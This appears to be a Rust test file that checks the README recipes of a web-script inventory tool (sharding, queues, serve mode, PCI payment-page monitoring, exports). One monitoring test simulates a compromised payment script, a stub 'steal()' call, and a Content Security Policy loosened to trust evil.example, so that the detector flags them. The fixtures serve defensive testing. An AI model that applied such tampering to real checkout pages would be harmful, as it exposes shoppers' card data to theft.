        let env = [("SLURM_ARRAY_TASK_ID".to_owned(), task.to_string())];
        let ran = sandbox.sh_with(&["/bin/sh", "-c"], &slurm, &env);
        assert_eq!(ran.code, Some(0), "task {task}: {}", ran.printed());
    }
    joined("the Slurm array");

    // Kubernetes: the Job's script, once per completion index, with the
    // ConfigMap's list and the volume in the sandbox.
    let job = &blocks_in("Shards", "yaml")[0];
    for line in [
        "completionMode: Indexed",
        "completions: 3",
        "parallelism: 3",
    ] {
        assert!(job.contains(line), "{line} not in the Job:\n{job}");
    }
    let mut script = String::new();
    let mut indent = None;
    for line in job.lines() {
        match indent {
            None if line.trim() == "- |" => indent = Some(line.find('-').unwrap_or(0) + 1),
            Some(at) if line.len() > at && line[..at].trim().is_empty() => {
                script.push_str(line.trim_start());
                script.push('\n');
            }
            Some(_) if !script.is_empty() => break,
            _ => {}
        }
    }
    assert!(script.contains("--shard \"$k/3\""), "{script}");
    let script = substitute(&script, "/data/urls.txt", "urls.txt");
    let script = substitute(&script, "/out/", "");
    for index in 0..3 {
        let env = [("JOB_COMPLETION_INDEX".to_owned(), index.to_string())];
        let ran = sandbox.sh_with(&["/bin/sh", "-c"], &script, &env);
        assert_eq!(ran.code, Some(0), "index {index}: {}", ran.printed());
    }
    joined("the Kubernetes Job");

    // A page that fails makes its shard exit 1: done, for the Job's script.
    let mut failing = urls.clone();
    failing.push(servers[0].url("/status/404"));
    sandbox.list("urls.txt", &failing);
    for index in 0..3 {
        let env = [("JOB_COMPLETION_INDEX".to_owned(), index.to_string())];
        let ran = sandbox.sh_with(&["/bin/sh", "-c"], &script, &env);
        assert_eq!(ran.code, Some(0), "index {index}: {}", ran.printed());
    }
    let failed: usize = (1..=3)
        .map(|k| {
            Table::read(&sandbox.file(&format!("pages-{k}.csv")))
                .rows_where("error", "http_status")
                .len()
        })
        .sum();
    assert_eq!(failed, 1, "the 404 is in a shard's report");
}

#[test]
fn shard_formula_in_prose_computes_what_the_binary_does() {
    // The one-liner that computes a site's shard elsewhere, when Python is
    // there to run it.
    let python = readme()
        .split('`')
        .find(|span| span.starts_with("python3 -c "))
        .expect("the python3 one-liner")
        .to_owned();
    let (command, example) = python
        .rsplit_once("' ")
        .expect("arguments after the program");
    assert_eq!(example, "bbc.co.uk 3");
    // What the README says it prints.
    let text = readme();
    let (_, after) = text.split_once(&python).expect("the span");
    let prints = format!("prints {}", scriptscrape::shard::of_site("bbc.co.uk", 3));
    assert!(
        after[1..].trim_start().starts_with(&prints),
        "not {prints}: {}",
        &after[..40]
    );
    if !Path::new("/usr/bin/python3").exists() {
        return;
    }
    let sandbox = Sandbox::new();
    for (site, n) in [
        ("bbc.co.uk", 3),
        ("example.com", 7),
        ("127.0.0.1", 2),
        ("::1", 5),
    ] {
        let ran = sandbox.sh(&format!("{command}' '{site}' {n}"));
        assert_eq!(ran.code, Some(0), "{}", ran.printed());
        let expected = scriptscrape::shard::of_site(site, n);
        assert_eq!(ran.stdout.trim(), expected.to_string(), "{site} of {n}");
    }
}

#[test]
fn queue_recipe_writes_what_a_local_run_writes() {
    let redis = crate::support::redis::RedisServer::start();
    let server = TestServer::start();
    let sandbox = Sandbox::new();
    let mut urls: Vec<String> = (0..12).map(|i| server.url(&format!("/gen/{i}"))).collect();
    urls.push("not a url ::".to_owned());
    sandbox.list("urls.txt", &urls);
    let ran = sandbox.sh("scriptscrape urls.txt -q -o local.csv --pages local-pages.csv");
    assert_eq!(
        ran.code,
        Some(1),
        "the invalid line fails: {}",
        ran.printed()
    );

    let [recipe] = &blocks_in("A shared queue on Redis", "sh")[..] else {
        panic!("one recipe under A shared queue on Redis")
    };
    let recipe = substitute(recipe, "redis://queue.internal:6379/", &redis.url());
    let ran = sandbox.sh(&recipe);
    // collect's exit status is a local run's: 1 for the invalid line;
    // the last command (jobs) then lists the job, finished.
    assert_eq!(ran.code, Some(0), "{}", ran.printed());
    assert!(
        ran.stdout.contains("nightly\t0\t0\t12\t1\t0\tfinished"),
        "jobs: {}",
        ran.printed()
    );
    for (queued, local) in [
        ("scripts.csv", "local.csv"),
        ("pages.csv", "local-pages.csv"),
    ] {
        assert_eq!(
            joinable_rows(&sandbox.file(queued)),
            joinable_rows(&sandbox.file(local)),
            "{queued}"
        );
    }
    let stats: Value =
        serde_json::from_slice(&std::fs::read(sandbox.file("stats.json")).expect("stats.json"))
            .expect("stats JSON");
    assert_eq!(stats["pages"]["ok"], 12, "{stats}");
}

/// The `serve` recipe, as written: a token made, the server started, and
/// both curl scans answered with the stream of the README (the site is
/// on loopback, so the server gets --allow-private; the JSON scan names
/// the test site instead of example.com and .org; the server runs in the
/// background until the scans are done).
#[test]
fn serve_recipe_scans_over_http() {
    let server = TestServer::start();
    let sandbox = Sandbox::new();
    sandbox.list("urls.txt", &[server.url("/gen/1"), server.url("/gen/2")]);
    let [recipe] = &blocks_in("Scans over HTTP (`scriptscrape serve`)", "sh")[..] else {
        panic!("one recipe under Scans over HTTP")
    };
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("a free port")
        .port();
    let addr = format!("127.0.0.1:{port}");
    let recipe = substitute(recipe, "127.0.0.1:8080", &addr);
    let recipe = substitute(&recipe, "https://example.com/", &server.url("/gen/3"));
    let recipe = substitute(&recipe, "https://example.org/", &server.url("/gen/4"));
    let started = "--max-depth 2 --allow-private &\n\
         for i in $(seq 100); do curl -s http://ADDR/healthz >/dev/null && break; sleep 0.1; done\n"
        .replace("ADDR", &addr);
    let recipe = substitute(&recipe, "--max-depth 2\n", &started);
    let ran = sandbox.sh(&format!("{recipe}\nkill $!"));
    assert_eq!(ran.code, Some(0), "{}", ran.printed());
    let objects: Vec<Value> = ran
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    let summaries: Vec<&Value> = objects
        .iter()
        .filter(|o| o["object"] == "summary")
        .collect();
    assert_eq!(summaries.len(), 3, "{}", ran.printed());
    for (summary, ok) in summaries.iter().zip([2, 2, 1]) {
        assert_eq!(summary["ok"], ok, "{summary}");
    }
    // The third scan crawled (the page leads nowhere) and fetched its
    // scripts.
    let third: Vec<&Value> = objects
        .iter()
        .skip_while(|o| o["object"] != "summary")
        .skip(1)
        .skip_while(|o| o["object"] != "summary")
        .skip(1)
        .filter(|o| o["object"] == "script" && o["src"].is_string())
        .collect();
    assert!(!third.is_empty(), "{}", ran.printed());
    assert!(
        third.iter().all(|o| o["content_status"].is_number()),
        "{}",
        ran.printed()
    );
    for n in 1..=4 {
        let url = server.url(&format!("/gen/{n}"));
        assert!(
            objects
                .iter()
                .any(|o| o["object"] == "page" && o["page_url"] == url.as_str()),
            "{url}: {}",
            ran.printed()
        );
    }
    let token = std::fs::read_to_string(sandbox.file("token")).expect("the token file");
    assert!(token.trim().len() >= 16, "{token:?}");
    assert!(
        !ran.printed().contains(token.trim()),
        "the token was printed"
    );
}

#[test]
fn the_allow_list_example_is_one_diff_reads() {
    // Not a recipe, but what a reader copies their allow list from.
    let example = &blocks_in("Watch your pages for script changes", "text")[0];
    let list = scriptscrape::diff::AllowList::parse(example)
        .unwrap_or_else(|e| panic!("the README's allow list: {e:?}"));
    let entries = list.entries();
    assert_eq!(entries.len(), 3);
    assert_eq!(entries[1].owner.as_deref(), Some("payments@shop.example"));
    assert_eq!(
        entries[1].justification.as_deref(),
        Some("Card form, contract #17")
    );
    assert_eq!(entries[1].pins.len(), 1);
}

#[test]
fn pci_recipe_reports_every_night_and_mails_changed_code_policies_and_unauthorised_scripts() {
    let server = TestServer::start();
    let pay_v1 = "payments.mount('#card');\n";
    server.set_script("pay.js", pay_v1, Duration::ZERO);
    server.set_script("tags.js", "tags.push(1);\n", Duration::ZERO);
    let policy = "script-src 'self'; object-src 'none'";
    let checkout = "<html><head><script src=/js/pay.js></script><script>cfg = 1;</script>\
                    </head><body><script src=/js/tags.js></script></body></html>";
    server.set_csp_page("checkout", checkout, &[policy]);
    server.set_csp_page("payment", "<script src=/js/pay.js></script>", &[policy]);
    let mut sandbox = Sandbox::new();

    let setup = &blocks_in("Payment pages and PCI DSS", "sh")[0];
    let setup = substitute(
        &sandbox.localise(setup),
        "https://shop.example/",
        &server.url("/csp/"),
    );
    let ran = sandbox.sh(&setup);
    assert_eq!(
        ran.code,
        Some(1),
        "nothing is authorised yet: {}",
        ran.printed()
    );
    let review = Table::read(&sandbox.file("review.csv"));
    assert_eq!(review.rows.len(), 4);
    assert_eq!(review.rows_where("authorised", "false").len(), 4);
    // The reviewer writes the allow list from the review: each script
    // with why, who, and its code's hash.
    let mut allowed = String::new();
    for i in 0..review.rows.len() {
        let script = review.get(i, "script");
        if allowed.contains(script) {
            continue;
        }
        // The payment script's code is pinned; the tag script is trusted
        // by its URL alone.
        let pin = review.get(i, "content_sha384");
        let pin = if script.ends_with("/pay.js") {
            format!(" pin={pin}")
        } else {
            String::new()
        };
        let quoted = if review.get(i, "inline") == "true" {
            format!("'{script}'")
        } else {
            script.to_owned()
        };
        allowed.push_str(&format!(
            "{quoted} justification=\"Reviewed, ticket 42\" owner=web@shop.example{pin}\n"
        ));
    }
    std::fs::write(sandbox.file("allowed.txt"), allowed).unwrap();

    let jobs = sandbox.crontab(&blocks_in("Payment pages and PCI DSS", "cron")[0]);
    assert_eq!(jobs.len(), 1);
    let night = || {
        let ran = sandbox.sh(&jobs[0]);
        (ran.printed(), sandbox.take_mail())
    };
    let report = || {
        let reports: Vec<_> = std::fs::read_dir(sandbox.file("reports"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        assert_eq!(reports.len(), 1, "one dated report: {reports:?}");
        std::fs::read_to_string(&reports[0]).unwrap()
    };
    let subject = "mail -s payment page scripts need review pci@example.com\n";

    // Night 1: nothing changed, everything authorised: silence, and the
    // night's report says so.
    let (printed, mail) = night();
    assert_eq!(printed, "", "night 1 printed");
    assert_eq!(mail, "", "night 1 mailed");
    let html = report();
    assert!(html.contains("<td class=yes>yes</td>") && !html.contains("<td class=no>no</td>"));

    // Night 2: the code behind pay.js changed (the polyfill.io case): its
    // src is the same, its content is not, and it is off its pin.
    server.set_script(
        "pay.js",
        "payments.mount('#card'); steal();\n",
        Duration::ZERO,
    );
    server.set_script("tags.js", "tags.push(2);\n", Duration::ZERO);
    let (printed, mail) = night();
    assert_eq!(printed, "", "night 2 printed besides the mail");
    assert!(mail.starts_with(subject), "night 2 mail: {mail:?}");
    // The pinned script is off its pin; the other's code changed.
    assert!(
        mail.contains("unapproved") && mail.contains("pinned sha384-"),
        "{mail}"
    );
    assert!(mail.contains("content_changed"), "{mail}");
    assert!(mail.contains("Authorisation report: "), "{mail}");
    assert!(report().contains("<td class=no>no</td>"));

    // Night 3: still off its pin: mailed again (the report, every night),
    // and the page's policy was loosened: csp_changed names the directive.
    server.set_csp_page(
        "checkout",
        checkout,
        &["script-src 'self' https://evil.example; object-src 'none'"],
    );
    let (_, mail) = night();
    assert!(mail.starts_with(subject), "night 3 mail: {mail:?}");
    assert!(mail.contains("csp_changed"), "{mail}");
    assert!(mail.contains("script-src"), "{mail}");

    // Night 4: the old code and the old policy are back: the policy's
    // return is a change too.
    server.set_csp_page("checkout", checkout, &[policy]);
    server.set_script("pay.js", pay_v1, Duration::ZERO);
    let (_, mail) = night();
    assert!(mail.starts_with(subject), "night 4 mail: {mail:?}");
    assert!(mail.contains("csp_changed"), "{mail}");
}

/// The warehouse recipe: the export config file, both exports, the DuckDB
/// queries (run by Python's duckdb, as the README offers) and the files
/// each BigQuery load names, in the formats it names.
#[test]
fn warehouse_recipes_export_query_and_name_what_bigquery_loads() {
    let server = TestServer::start();
    // A third-party script: another loopback host name, so nothing leaves
    // 127.0.0.1 and --fetch-scripts (set by the config file) fetches it.
    let cdn = format!("http://localhost:{}/js/lib.js", server.addr.port());
    server.set_script("lib.js", "window.lib = 1;", Duration::ZERO);
    for n in 0..3 {
        server.set_page(
            &format!("p{n}"),
            &format!(r#"<script src="{cdn}" crossorigin></script><script>var p = {n};</script>"#),
        );
    }
    let sandbox = Sandbox::new();
    let mut urls: Vec<String> = (0..3).map(|n| server.url(&format!("/page/p{n}"))).collect();
    urls.push(server.url("/page/missing"));
    // Records the request's headers (a page with one inline script).
    urls.push(server.url("/headers"));
    sandbox.list("urls.txt", &urls);
    let section = "Exporting to a warehouse";
    let [config] = &blocks_in(section, "toml")[..] else {
        panic!("one config file in {section}");
    };
    std::fs::write(sandbox.file("export.toml"), config).expect("write export.toml");
    let [export, bigquery] = &blocks_in(section, "sh")[..] else {
        panic!("the export and the BigQuery blocks in {section}");
    };
    let ran = sandbox.sh(export);
    // One page is missing: exit 1, as max-failures (5 %) from the file
    // does not cover 1 of 5.
    assert_eq!(ran.code, Some(1), "{}", ran.printed());
    assert_eq!(
        server.last_headers()["user-agent"],
        "acme-inventory/1.0 (+https://acme.example/bot)"
    );
    // fetch-scripts from the file: the script was fetched, once per run.
    assert_eq!(server.hits("/js/lib.js"), 2);
    // The two exports are one inventory to diff, and the config's fields
    // are all diff needs: no change but the page missing in both (which a
    // diff reports as unknown), and no warning.
    let ran = sandbox.sh(
        "scriptscrape diff scripts.parquet scripts.jsonl.gz --old-pages pages.parquet \
         --new-pages pages.jsonl.gz",
    );
    let changes = Table::parse(ran.stdout.as_bytes());
    assert_eq!(changes.column("change"), ["unknown"], "{}", ran.printed());
    assert_eq!(changes.column("page_url"), [server.url("/page/missing")]);
    assert!(!ran.stderr.contains("warning"), "{}", ran.printed());

    let Some(python) = crate::support::python_with_duckdb("readme") else {
        return;
    };
    let [sql] = &blocks_in(section, "sql")[..] else {
        panic!("one SQL block in {section}");
    };
    let script = format!(
        "import duckdb, json\ncon = duckdb.connect()\nout = []\n\
         for stmt in [s for s in {sql:?}.split(';') if s.strip()]:\n    \
         rows = con.execute(stmt).fetchall()\n    \
         out.append([[str(v) for v in r] for r in rows])\n\
         print(json.dumps(out))\n"
    );
    let ran = Command::new(&python)
        .args(["-c", &script])
        .current_dir(sandbox.home())
        .output()
        .expect("run python");
    assert!(
        ran.status.success(),
        "{}",
        String::from_utf8_lossy(&ran.stderr)
    );
    let results: Vec<Vec<Vec<String>>> = serde_json::from_slice(&ran.stdout).expect("json");
    assert_eq!(results[0], [["localhost", "3", "3"]], "third-party hosts");
    assert_eq!(results[1], [["http_status", "1"]], "failed pages");
    let converted = sandbox.file("scripts-from-jsonl.parquet");
    assert!(
        std::fs::read(&converted)
            .expect("COPY wrote it")
            .starts_with(b"PAR1")
    );

    // Each bq load names a file the export wrote, in the format it says.
    let loads: Vec<&str> = bigquery
        .lines()
        .filter(|l| l.starts_with("bq load"))
        .collect();
    assert_eq!(loads.len(), 3, "{bigquery}");
    for load in loads {
        let format = load
            .split_whitespace()
            .find_map(|w| w.strip_prefix("--source_format="))
            .expect("a --source_format");
        let file = sandbox.file(load.split_whitespace().last().unwrap());
        let bytes = std::fs::read(&file).unwrap_or_else(|e| panic!("{load}: {e}"));
        match format {
            "PARQUET" => assert!(bytes.starts_with(b"PAR1"), "{load}"),
            "NEWLINE_DELIMITED_JSON" => {
                let mut text = String::new();
                std::io::Read::read_to_string(
                    &mut flate2::read::MultiGzDecoder::new(&bytes[..]),
                    &mut text,
                )
                .expect("gzip");
                for line in text.lines() {
                    serde_json::from_str::<Value>(line).expect("a JSON line");
                }
                assert_eq!(text.lines().count(), 7, "{load}");
            }
            other => panic!("{load}: a format this test does not know: {other}"),
        }
    }
}

/// The configuration file example reads as the README says: its values
/// from the file, the [work] table winning for work.
#[test]
fn configuration_file_example_is_read_as_described() {
    let sandbox = Sandbox::new();
    let [example] = &blocks_in("Configuration file", "toml")[..] else {
        panic!("one example in Configuration file");
    };
    let dir = sandbox.home().join(".config/scriptscrape");
    std::fs::create_dir_all(&dir).expect("config dir");
    std::fs::write(dir.join("config.toml"), example).expect("write config");
    let ran = sandbox.sh("scriptscrape --print-config");
    assert_eq!(ran.code, Some(0), "{}", ran.printed());
    let line = |key: &str| -> String {
        ran.stdout
            .lines()
            .find(|l| l.starts_with(&format!("{key} = ")))
            .unwrap_or_else(|| panic!("no {key} in {}", ran.stdout))
            .to_owned()
    };
    assert!(
        line("concurrency").contains("\"16\""),
        "{}",
        line("concurrency")
    );
    assert!(
        line("concurrency").contains("config.toml:2"),
        "{}",
        line("concurrency")
    );
    assert!(
        line("robots").starts_with("robots = true"),
        "{}",
        line("robots")
    );
    // The Redis password is masked.
    assert!(!ran.stdout.contains("PASSWORD"), "{}", ran.stdout);
    let ran = sandbox.sh("scriptscrape work --print-config");
    assert_eq!(ran.code, Some(0), "{}", ran.printed());
    let concurrency = ran
        .stdout
        .lines()
        .find(|l| l.starts_with("concurrency = "))
        .expect("work's concurrency");
    assert!(concurrency.contains("\"128\""), "{concurrency}");
    let ran = sandbox.sh("scriptscrape diff old.csv new.csv --print-config");
    assert!(
        ran.stdout
            .lines()
            .any(|l| l.starts_with("ignore-query = true")),
        "{}",
        ran.printed()
    );
}
